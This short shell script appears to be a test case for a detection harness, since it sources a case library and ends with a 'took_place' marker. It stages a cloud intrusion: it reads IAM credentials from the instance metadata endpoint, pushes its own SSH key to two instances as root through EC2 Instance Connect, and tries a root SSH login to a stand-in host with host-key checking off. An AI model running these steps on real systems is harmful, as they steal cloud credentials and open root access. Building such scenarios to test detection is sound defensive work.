#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/.k && ssh-keygen -q -t ed25519 -N '' -f /tmp/.k/id
creds=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-credentials)
id=$(echo "$creds" | sed 's/.*AccessKeyId": "\([^"]*\).*/\1/')
for i in i-0a1 i-0b2; do
    curl -sf -H "Authorization: AWS4-HMAC-SHA256 Credential=$id/20261130/eu-west-1/ec2-instance-connect/aws4_request" -H 'X-Amz-Target: AWSEC2InstanceConnectService.SendSSHPublicKey' \
        -d "{\"InstanceId\":\"$i\",\"InstanceOSUser\":\"root\",\"SSHPublicKey\":\"$(cat /tmp/.k/id.pub)\"}" http://203.0.113.10/ >/dev/null
done
timeout 3 ssh -o StrictHostKeyChecking=no -o ConnectTimeout=2 -i /tmp/.k/id root@203.0.113.10 id 2>/dev/null || true
took_place
